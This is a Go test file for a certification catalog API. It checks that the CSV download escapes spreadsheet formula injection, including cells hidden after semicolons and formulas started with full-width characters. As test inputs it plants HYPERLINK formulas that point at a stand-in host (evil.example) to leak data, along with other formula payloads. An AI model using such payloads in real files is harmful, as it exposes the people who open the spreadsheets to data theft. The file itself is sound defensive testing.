package apitest

import (
	"encoding/csv"
	"net/http"
	"os"
	"strings"
	"testing"

	"github.com/mssc/recert/catalog"
)

// formulaStarts are the characters that make a spreadsheet run a cell as a
// formula when it starts with one, in their ASCII and full-width forms.
const formulaStarts = "=+-@＝＋－＠"

// semicolonCells splits a CSV line into cells as LibreOffice 7.4 does when
// it reads the file with the semicolon as separator, as a spreadsheet in
// many European locales does (measured with its "Evaluate formulas"
// import option): a cell that starts with a double quote is quoted, runs
// over doubled quotes, and ends at a quote followed by spaces and a
// semicolon or by the end of the line (a quote followed by anything else,
// such as the comma between two fields, is kept in the text, and so are
// the spaces); any other cell ends at the next semicolon, quotes or not.
func semicolonCells(line string) []string {
	var cells []string
	for {
		if !strings.HasPrefix(line, `"`) {
			cell, rest, found := strings.Cut(line, ";")
			cells = append(cells, cell)
			if !found {
				return cells
			}
			line = rest
			continue
		}
		var cell strings.Builder
		i := 1
		for i < len(line) {
			if line[i] != '"' {
				cell.WriteByte(line[i])
				i++
				continue
			}
			if i+1 < len(line) && line[i+1] == '"' {
				cell.WriteByte('"')
				i += 2
				continue
			}
			after := strings.TrimLeft(line[i+1:], " ")
			if after == "" || after[0] == ';' {
				cell.WriteString(line[i+1 : len(line)-len(after)])
				break
			}
			cell.WriteByte('"')
			i++
		}
		cells = append(cells, cell.String())
		end := strings.IndexByte(line[min(i+1, len(line)):], ';')
		if i >= len(line) || end < 0 {
			return cells
		}
		line = line[i+1+end+1:]
	}
}

// readmeLines checks that the README's example lines of /catalog.csv, its
// header and the line of aws-cwi, are lines of the seed catalog's download.
func readmeLines(t *testing.T, body string) {
	t.Helper()
	raw, err := os.ReadFile("../../README.md")
	if err != nil {
		t.Fatal(err)
	}
	lines := map[string]bool{}
	for _, l := range strings.Split(body, "\n") {
		lines[l] = true
	}
	found := 0
	for _, l := range strings.Split(string(raw), "\n") {
		if strings.HasPrefix(l, `"key",`) || strings.HasPrefix(l, `"aws-cwi",`) {
			found++
			if !lines[l] {
				t.Errorf("the README shows a line of /catalog.csv that the download does not have: %s", l)
			}
		}
	}
	if found != 2 {
		t.Errorf("the README shows %d lines of /catalog.csv, want its header and the line of aws-cwi", found)
	}
}

// quotedLine is a record as RFC 4180 writes it with every field quoted.
func quotedLine(record []string) string {
	fields := make([]string, len(record))
	for i, f := range record {
		fields[i] = `"` + strings.ReplaceAll(f, `"`, `""`) + `"`
	}
	return strings.Join(fields, ",")
}

// TestSemicolonCells checks the test's reading at semicolons against lines
// as LibreOffice 7.4 read them.
func TestSemicolonCells(t *testing.T) {
	for line, want := range map[string]string{
		`k1,Rigger;=1+2,3`:                 `k1,Rigger|=1+2,3`,
		`k2,"x;=HYPERLINK(""a"",""b"")",4`: `k2,"x|=HYPERLINK(""a"",""b"")",4`,
		`"k3","x;=1+2","3"`:                `k3","x;=1+2","3`,
		`"k4",";=1+2","3"`:                 `k4",|=1+2","3"`,
		`"k5"," ;=1",";x"`:                 `k5", |=1","|x"`,
		`"k6","'"";=1+2","3"`:              `k6","'";=1+2","3`,
		`"k7";"=1+2"`:                      `k7|=1+2`,
		``:                                 ``,
		`a;;b`:                             `a||b`,
	} {
		if got := strings.Join(semicolonCells(line), "|"); got != want {
			t.Errorf("semicolonCells(%s) = %s, want %s", line, got, want)
		}
	}
}

// TestCatalogCSVHoldsNoFormulaForAnySeparator stores, as staff, entries
// whose text hides a formula after a semicolon or starts with a full-width
// formula character, then downloads /catalog.csv over HTTP: encoding/csv
// reads every cell back as stored, with a quote in front where a
// spreadsheet would run it; every field is in double quotes; and a
// spreadsheet reading the lines at semicolons finds no cell that starts
// with a formula character. The README's example lines are checked
// against the download of the seed catalog first.
func TestCatalogCSVHoldsNoFormulaForAnySeparator(t *testing.T) {
	eachDialect(t, func(t *testing.T, e *env) {
		staff := e.token(t, catalog.RoleStaff, "staff-csv")
		before := e.send(t, nil, http.MethodGet, "/catalog.csv", nil)
		readmeLines(t, before.Body)
		const create = `mutation($in: CertificationInput!) { createCertification(input: $in, reason: "a formula in a name") { certification { key } userErrors { field message } } }`
		org := orgID(t, e, "aws")
		const link = `=HYPERLINK("https://evil.example/?leak","click")`
		entries := []map[string]any{
			{"organizationId": org, "name": "Certified Rigger;=1+2", "recognitionBases": []string{"NCCA"}},
			{"organizationId": org, "name": "Certified Welder;" + link, "displayName": "AWS Welder", "recognitionBases": []string{"NCCA"}},
			{"organizationId": org, "name": "＝HYPERLINK(\"https://evil.example\",\"click\")", "displayName": "＋Wide Entry", "level": "－1", "group": "＠SUM(1)",
				"description": ";" + link, "recognitionBases": []string{"NCCA"}},
		}
		keys := make([]string, len(entries))
		for i, in := range entries {
			got := get(e.okAs(t, staff, create, map[string]any{"in": in}), "createCertification")
			if errs := get(got, "userErrors").([]any); len(errs) > 0 {
				t.Fatalf("%v: %v", in, errs)
			}
			keys[i] = get(got, "certification", "key").(string)
		}

		res := e.send(t, nil, http.MethodGet, "/catalog.csv", nil, "If-None-Match", before.Header.Get("ETag"))
		if want := `"catalog-v` + e.column(t, "SELECT version FROM catalog_state")[0] + `-csv3"`; res.Status != http.StatusOK || res.Header.Get("ETag") != want {
			t.Fatalf("/catalog.csv: %d, ETag %q, want %q", res.Status, res.Header.Get("ETag"), want)
		}
		records, err := csv.NewReader(strings.NewReader(res.Body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		col := map[string]int{}
		for i, c := range records[0] {
			col[c] = i
		}
		rows := map[string][]string{}
		for _, r := range records[1:] {
			rows[r[col["key"]]] = r
		}
		for _, want := range []map[string]string{
			{"key": keys[0], "name": "Certified Rigger;=1+2", "displayName": "AWS Certified Rigger;=1+2"},
			{"key": keys[1], "name": "Certified Welder;" + link},
			{"key": keys[2], "name": "'＝HYPERLINK(\"https://evil.example\",\"click\")", "displayName": "'＋Wide Entry",
				"level": "'－1", "group": "'＠SUM(1)", "description": "';" + link},
		} {
			row := rows[want["key"]]
			if row == nil {
				t.Fatalf("/catalog.csv has no line for %s", want["key"])
			}
			for column, cell := range want {
				if row[col[column]] != cell {
					t.Errorf("%s: %s cell = %q, want %q", want["key"], column, row[col[column]], cell)
				}
			}
		}

		lines := strings.Split(strings.TrimSuffix(res.Body, "\n"), "\n")
		if len(lines) != len(records) {
			t.Fatalf("%d lines for %d records: a cell holds a line break", len(lines), len(records))
		}
		unquoted := 0
		for i, line := range lines {
			if line != quotedLine(records[i]) {
				unquoted++
			}
			for _, cell := range semicolonCells(line) {
				if first := strings.TrimLeft(cell, " "); first != "" && strings.ContainsRune(formulaStarts, []rune(first)[0]) {
					t.Errorf("line %d read at semicolons has a cell %q that starts a formula: %s", i+1, cell, line)
				}
			}
		}
		if unquoted > 0 {
			t.Errorf("%d of %d lines are not every field in double quotes, inner quotes doubled", unquoted, len(lines))
		}
	})
}
